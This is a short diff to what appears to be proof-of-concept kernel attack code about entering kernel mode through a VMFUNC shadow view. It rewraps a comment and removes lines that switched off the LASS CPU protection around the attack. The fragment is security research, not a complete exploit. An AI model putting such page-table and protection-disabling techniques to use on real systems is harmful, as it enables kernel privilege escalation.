@@ -7,10 +7,11 @@
  *
  * Kernel mode can be compatibility mode, in the first 4 GiB of the caller's addresses:
  * entered at the VMFUNC to the shadow view, what comes behind is other instructions then.
- * LASS, where Linux has it on, keeps kernel mode from there. Or it is entered at the page's end, which is a
- * VMFUNC, too: what comes behind is the page's beginning then. Were that an exception, it
- * would be delivered in the shadow view, to a stack of the attacker's choice. So is the
- * page fault where nothing comes behind.
+ * LASS, where Linux has it on, keeps kernel mode from there.
+ *
+ * Or it is entered at the page's end, which is a VMFUNC, too: what comes behind is the
+ * page's beginning then. Were that an exception, it would be delivered in the shadow view,
+ * to a stack of the attacker's choice. So is the page fault where nothing comes behind.
  *
  * A die notifier has it come back; or, with a stack that is none, nothing has, and what
  * was mapped stays.
@@ -69,7 +70,7 @@ static void run(u64 va, u64 from, u64 stub_pa, u64 cs, u64 rsp)
 {
 	u64 code = (stub_pa & ENTRY_FRAME) | _PAGE_PRESENT | _PAGE_ACCESSED;
 	u64 *top = attack_top_entry(va), *entry[PAGES], old[PAGES];
-	u64 old_top = *top, cr4 = raw_read_cr4(), pa;
+	u64 old_top = *top, pa;
 	unsigned int i, level;
 
 	for (i = 0; i < PAGES; i++) {
@@ -84,14 +85,10 @@ static void run(u64 va, u64 from, u64 stub_pa, u64 cs, u64 rsp)
 				 i == STACK ? old[i] & ~(u64)_PAGE_USER :
 				 i == STUB_AGAIN && rsp ? 0 : code,
 				 va + i * PAGE_SIZE);
-	if (cr4 & CR4_LASS)
-		raw_write_cr4(cr4 & ~CR4_LASS);
 	pages = va;
 	attacker = current;
 	attack_enter(va + from, rsp ? : va + PAGES * PAGE_SIZE - 256, VIEW_SHADOW, cs);
 	attacker = NULL;
-	if (cr4 & CR4_LASS)
-		raw_write_cr4(cr4);
 	for (i = PAGES; i-- > 0; )
 		attack_set_entry(entry[i], old[i], va + i * PAGE_SIZE);
 	attack_set_entry(top, old_top, va);
